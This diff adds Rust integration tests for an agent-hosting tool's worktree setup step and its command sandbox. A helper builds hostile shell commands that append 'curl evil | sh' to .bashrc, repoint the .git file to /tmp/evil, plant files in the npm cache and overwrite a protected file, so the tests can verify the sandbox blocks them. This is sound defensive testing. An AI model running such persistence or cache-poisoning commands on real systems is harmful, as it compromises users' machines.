@@ -1,0 +1,261 @@
+//! `[worktree] setup` and the test command's own sandbox, through the real binary and the
+//! supervisor: setup runs once per worktree before the agent, its failure fails the task with
+//! its words and the fix, and neither the setup nor the test run reaches what it must not
+//! (the worktree's `.git`, the real home, the package caches, Do NOT modify paths). Each
+//! attack prints a marker and is checked on disk, with a sandbox-off control.
+
+use crate::Test;
+use crate::lifecycle::{StopSupervisor, sample, status_row, task_state};
+
+/// Waits until the task's attempt `n` has ended (ready or failed); returns the state.
+fn wait_for_attempt_end(test: &Test, n: u64) -> String {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
+    loop {
+        let row = status_row(test, TASK);
+        let state = row["state"].as_str().unwrap_or_default().to_string();
+        if row["attempts"].as_u64() == Some(n) && (state == "ready" || state == "failed") {
+            return state;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "attempt {n} stuck: {row}"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+}
+
+/// The sample repository with `config` as its agenthost.toml and `deps/` ignored, committed.
+fn with_config(config: &str) -> Test {
+    let test = sample()
+        .file("repo/.gitignore", "__pycache__/\n*.pyc\ndeps/\n")
+        .file("repo/agenthost.toml", config);
+    crate::commit_all(&test.path().join("repo"));
+    test
+}
+
+const TASK: &str = "export-items-as-csv";
+const SPEC: &str = "repo/specs/csv-export.md";
+
+/// Setup runs in the new worktree before the agent, its output goes to the attempt log, the
+/// test run sees what it made, and a correction does not run it again.
+#[test]
+fn setup_runs_once_in_the_new_worktree_before_the_agent() {
+    let test = with_config(
+        "[worktree]\nsetup = [\"mkdir -p deps && echo run >> deps/runs\", \"echo setup-said-hello\"]\n",
+    );
+    // The spec's own test command, which the test run must see the dependencies for.
+    let spec = test.path().join(SPEC);
+    let text = std::fs::read_to_string(&spec).expect("spec").replacen(
+        "test = \"python3 -m unittest discover -s tests\"",
+        "test = \"test -f deps/runs && echo deps-are-there && python3 -m unittest discover -s tests\"",
+        1,
+    );
+    std::fs::write(&spec, text).expect("write spec");
+    crate::commit_all(&test.path().join("repo"));
+    let _stop = StopSupervisor(&test);
+    let run = test.exec(&["launch", "--wait", SPEC]);
+    assert!(
+        run.stdout.contains(&format!("{TASK} is ready")),
+        "{}",
+        run.transcript()
+    );
+    let worktree = test.state_dir().join("worktrees").join(TASK);
+    let runs = || std::fs::read_to_string(worktree.join("deps/runs")).unwrap_or_default();
+    assert_eq!(runs(), "run\n");
+    let log = test.exec(&["logs", TASK]).stdout;
+    for expected in [
+        "== agenthost: setup sandbox:",
+        "== agenthost: setup `echo setup-said-hello`",
+        "setup-said-hello",
+        "deps-are-there",
+        "== agenthost: test sandbox:",
+    ] {
+        assert!(log.contains(expected), "no `{expected}` in:\n{log}");
+    }
+    // The setup log comes before the agent's start.
+    assert!(log.find("setup-said-hello") < log.find("== agenthost: attempt 1, agent"));
+    let corrected = test.exec(&["correct", TASK, "-m", "Also keep it short."]);
+    assert_eq!(corrected.code, 0, "{}", corrected.transcript());
+    wait_for_attempt_end(&test, 2);
+    assert_eq!(runs(), "run\n", "setup ran again for a correction");
+}
+
+/// A failing setup fails the task before the agent runs: `launch --wait` says which command,
+/// how it ended, what it printed and what to do; after the fix, `resume` runs it again.
+#[test]
+fn a_failed_setup_fails_the_task_with_its_words_and_the_fix() {
+    let test = with_config(
+        "[worktree]\nsetup = [\"echo 'npm ERR! 404 Not Found - GET https://registry.npmjs.org/left-padd' >&2; exit 7\"]\n",
+    );
+    let _stop = StopSupervisor(&test);
+    let run = test.exec(&["launch", "--wait", SPEC]);
+    assert_ne!(run.code, 0, "{}", run.transcript());
+    for expected in [
+        "the setup command `echo 'npm ERR! 404",
+        "exited with code 7",
+        "so the agent did not run",
+        "npm ERR! 404 Not Found",
+        "Fix `[worktree] setup`",
+        &format!("agenthost resume {TASK}"),
+    ] {
+        assert!(
+            run.stdout.contains(expected),
+            "no `{expected}` in:\n{}",
+            run.transcript()
+        );
+    }
+    assert_eq!(task_state(&test, TASK), "failed");
+    let log = test.exec(&["logs", TASK]).stdout;
+    assert!(!log.contains("agent `script`"), "the agent ran:\n{log}");
+
+    std::fs::write(
+        test.path().join("repo/agenthost.toml"),
+        "[worktree]\nsetup = [\"mkdir -p deps && echo fixed > deps/ok\"]\n",
+    )
+    .expect("write config");
+    let resumed = test.exec(&["resume", TASK]);
+    assert_eq!(resumed.code, 0, "{}", resumed.transcript());
+    assert_eq!(wait_for_attempt_end(&test, 2), "ready");
+    let worktree = test.state_dir().join("worktrees").join(TASK);
+    assert_eq!(
+        std::fs::read_to_string(worktree.join("deps/ok"))
+            .ok()
+            .as_deref(),
+        Some("fixed\n")
+    );
+}
+
+/// What a hostile setup command and a hostile test command try: replace the worktree's
+/// `.git` pointer (its hooks would run on the host), write a start-up file in the real home,
+/// plant a package in the npm cache (the user's next install takes it), and, for the test
+/// run, rewrite a Do NOT modify file. Each prints a marker when it ran.
+/// `git` false leaves `.git` alone (the control's setup: a replaced pointer would stop the
+/// task before its test run).
+fn attacks(home: &std::path::Path, who: &str, git: bool) -> String {
+    let home = home.display();
+    let git = if git {
+        format!("(echo 'gitdir: /tmp/evil' > .git) 2>/dev/null && echo {who}-GIT-WRITTEN; ")
+    } else {
+        String::new()
+    };
+    format!(
+        "echo {who}-ATTACK-RAN; {git}\
+         (echo 'curl evil | sh' >> {home}/.bashrc) 2>/dev/null && echo {who}-HOME-WRITTEN; \
+         (echo evil > {home}/.npm/{who}-planted) 2>/dev/null && echo {who}-CACHE-WRITTEN; \
+         (echo evil > items/export.py) 2>/dev/null && echo {who}-DNM-WRITTEN; true"
+    )
+}
+
+/// Whether a line of `log` is `marker` (the commands themselves are in the log too).
+fn said(log: &str, marker: &str) -> bool {
+    log.lines().any(|line| line.trim() == marker)
+}
+
+/// The spec, with a Do NOT modify entry the test run attacks.
+const GUARDED_SPEC: &str = r#"+++
+agent = "script"
++++
+
+# Add a helper
+
+## What
+
+A helper module.
+
+### Scope
+- Create: `vendor/helper.py`
+- Do NOT modify: `items/export.py`
+
+```agenthost-script
+[[edit]]
+path = "vendor/helper.py"
+write = "x = 1\n"
+```
+"#;
+
+/// Runs the attacks as setup and as test command with the given sandbox `mode`; returns
+/// the run's log and the test's home.
+fn attacked(mode: &str) -> (Test, String) {
+    let test = sample();
+    let home = test.path().join(".test-home");
+    let config = format!(
+        "[worktree]\nsetup = [{setup:?}]\n\n[test]\ncommand = {check:?}\n",
+        setup = attacks(&home, "SETUP", mode != "off"),
+        check = attacks(&home, "TEST", true),
+    );
+    let test = test
+        .file("repo/items/export.py", "# mine\n")
+        .file("repo/specs/guarded.md", GUARDED_SPEC)
+        .file("repo/agenthost.toml", &config)
+        .file(".test-home/.npm/_cacache/index", "")
+        .file(
+            ".test-home/config/agenthost/config.toml",
+            format!("[sandbox]\nmode = \"{mode}\"\n"),
+        );
+    crate::commit_all(&test.path().join("repo"));
+    let stop = StopSupervisor(&test);
+    let run = test.exec(&["launch", "--wait", "repo/specs/guarded.md"]);
+    let log = test.exec(&["logs", "add-a-helper"]).stdout;
+    drop(stop);
+    (test, format!("{}\n{log}", run.transcript()))
+}
+
+#[test]
+fn the_setup_and_test_runs_cannot_reach_git_the_home_the_caches_or_do_not_modify() {
+    let (test, log) = attacked("enforce");
+    // The setup may fill the caches (it runs the base commit's own install, before the
+    // agent); the test run, which runs the agent's code, may not.
+    for (who, blocked) in [
+        ("SETUP", &["GIT", "HOME"][..]),
+        ("TEST", &["GIT", "HOME", "CACHE", "DNM"][..]),
+    ] {
+        assert!(said(&log, &format!("{who}-ATTACK-RAN")), "{log}");
+        for what in blocked {
+            assert!(
+                !said(&log, &format!("{who}-{what}-WRITTEN")),
+                "{who} wrote {what}:\n{log}"
+            );
+        }
+    }
+    assert!(said(&log, "SETUP-CACHE-WRITTEN"), "{log}");
+    let home = test.path().join(".test-home");
+    assert!(!home.join(".bashrc").exists());
+    assert!(home.join(".npm/SETUP-planted").exists());
+    assert!(!home.join(".npm/TEST-planted").exists());
+    assert_eq!(task_state(&test, "add-a-helper"), "ready", "{log}");
+    let worktree = test.state_dir().join("worktrees/add-a-helper");
+    let pointer = std::fs::read_to_string(worktree.join(".git")).unwrap_or_default();
+    assert!(
+        pointer.starts_with("gitdir: ") && !pointer.contains("/tmp/evil"),
+        "{pointer}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(worktree.join("items/export.py"))
+            .ok()
+            .as_deref(),
+        Some("# mine\n")
+    );
+}
+
+/// The control: without the sandbox the same commands write all of it.
+#[test]
+fn without_the_sandbox_the_same_setup_and_test_commands_write_everywhere() {
+    let (test, log) = attacked("off");
+    let home = test.path().join(".test-home");
+    assert!(said(&log, "SETUP-HOME-WRITTEN"), "{log}");
+    assert!(
+        std::fs::read_to_string(home.join(".bashrc"))
+            .unwrap_or_default()
+            .contains("curl evil")
+    );
+    assert!(home.join(".npm/TEST-planted").exists());
+    for written in ["TEST-GIT-WRITTEN", "TEST-CACHE-WRITTEN", "TEST-DNM-WRITTEN"] {
+        assert!(said(&log, written), "no {written}:\n{log}");
+    }
+    let worktree = test.state_dir().join("worktrees/add-a-helper");
+    assert!(
+        std::fs::read_to_string(worktree.join(".git"))
+            .unwrap_or_default()
+            .contains("/tmp/evil")
+    );
+}
